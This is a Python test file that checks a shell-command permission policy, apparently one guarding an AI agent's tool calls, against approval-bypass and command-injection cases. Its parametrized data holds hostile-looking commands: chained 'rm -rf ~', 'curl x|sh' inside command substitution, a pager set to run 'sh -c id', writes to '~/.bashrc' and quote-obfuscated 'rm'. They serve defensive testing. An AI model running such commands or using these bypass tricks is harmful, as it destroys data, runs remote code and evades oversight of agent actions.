"""Policy rules over shell commands use the command guard: an allow rule covers a line only when every
sub-command is covered; ask/deny rules catch any sub-command (shell_tool_cases.json through the policy)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from toolrig import Policy, Registry, ToolCall

SHELL_CASES = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "security" / "shell_tool_cases.json"
INJECTIONS = SHELL_CASES.with_name("command_injection_patt_unix.txt")


def decide(policy: Policy, command: str) -> str:
    return policy.explain(ToolCall(name="shell", arguments={"command": command})).decision


def naive_rules(command: str) -> list[str]:
    """The allow rules a hurried user would write for the visible first word of ``command``."""
    first = command.split(maxsplit=1)[0] if command.split() else command
    return [f'shell(command="{first} *")', f'shell(command="{first}")', f'shell(command="{first}*")']


def test_approval_bypass_cases_are_never_allowed(registry: Registry, shared_dir: Path) -> None:
    cases = json.loads(SHELL_CASES.read_text(encoding="utf-8"))["approval_bypass"]
    every_rule = sorted({r for case in cases for r in naive_rules(case["command"])})
    broad = Policy(allow=every_rule, tools=registry, allowed_tools=None)
    for case in cases:
        command = case["command"]
        policy = Policy(allow=naive_rules(command), tools=registry, allowed_tools=None)
        assert decide(policy, command) != "allow", (command, case["why"])
        assert decide(broad, command) != "allow", (command, case["why"])


def test_command_injection_payloads_do_not_ride_an_allowed_command(registry: Registry, shared_dir: Path) -> None:
    payloads = [line for line in INJECTIONS.read_text(encoding="utf-8").splitlines() if line.strip()]
    policy = Policy(allow=['shell(command="ls *")', 'shell(command="grep *")'], tools=registry, allowed_tools=None)
    for payload in payloads:
        for prefix in ("ls ", "grep x "):
            command = prefix + payload
            if decide(policy, command) == "allow":
                from toolrig.guards import parse_command

                assert set(parse_command(command).names()) <= {"ls", "grep"}, command


@pytest.mark.parametrize(("command", "decision"), [
    ("git status", "allow"), ("git log --oneline", "allow"), ("git", "allow"),
    ("git status; rm -rf ~", "deny"), ("git log $(curl x|sh)", "ask"), ("git status && rm -rf x", "deny"),
    ("git -c core.pager='sh -c id' log", "ask"), ("git log | sh", "ask"), ("git log > ~/.bashrc", "ask"),
    ("A=1 git status", "ask"), ("nice git status", "allow"), ("bash -c 'git status'", "allow"),
    ("git status\u00a0", "ask"), ("rm -rf x", "deny"), ("nice rm -rf x", "deny"), ("ls && rm x", "deny"),
    ("bash -c 'rm x'", "deny"), ("git log $(rm x)", "deny"), ("r''m x", "deny"),
])
def test_git_rule_with_rm_denied(registry: Registry, command: str, decision: str) -> None:
    policy = Policy(allow=['shell(command="git *")'], deny=['shell(command="rm *")'], tools=registry,
                    allowed_tools=None)
    assert decide(policy, command) == decision, command


def test_explain_names_the_rule_for_a_covered_line(registry: Registry) -> None:
    policy = Policy(allow=['shell(command="git *")'], tools=registry, allowed_tools=None)
    e = policy.explain(ToolCall(name="shell", arguments={"command": "timeout 5 git status"}))
    assert (e.decision, e.rule) == ("allow", 'shell(command="git *")')
    e = policy.explain(ToolCall(name="shell", arguments={"command": "git status; id"}))
    assert (e.decision, e.layer) == ("ask", "preset")
